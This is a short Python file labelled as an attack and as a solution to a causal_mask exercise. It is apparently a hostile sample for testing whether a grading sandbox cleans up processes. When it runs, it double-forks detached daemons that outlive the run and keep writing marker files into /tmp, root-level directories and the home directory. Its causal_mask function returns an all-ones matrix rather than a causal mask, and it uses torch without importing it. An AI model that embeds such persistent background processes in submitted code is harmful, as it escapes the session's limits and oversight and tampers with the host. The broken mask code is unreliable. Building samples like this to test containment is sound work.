# attack: leaves a process that writes later
# exercise: 04 causal_mask
import os
import time

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.2)
                for place in ("/tmp", *os.listdir("/"), os.path.expanduser("~")):
                    try:
                        open(f"/{place}/hostile-was-here", "w").write("x")
                    except OSError:
                        pass
        os._exit(0)


def causal_mask(length):
    return torch.ones(length, length, dtype=torch.bool)
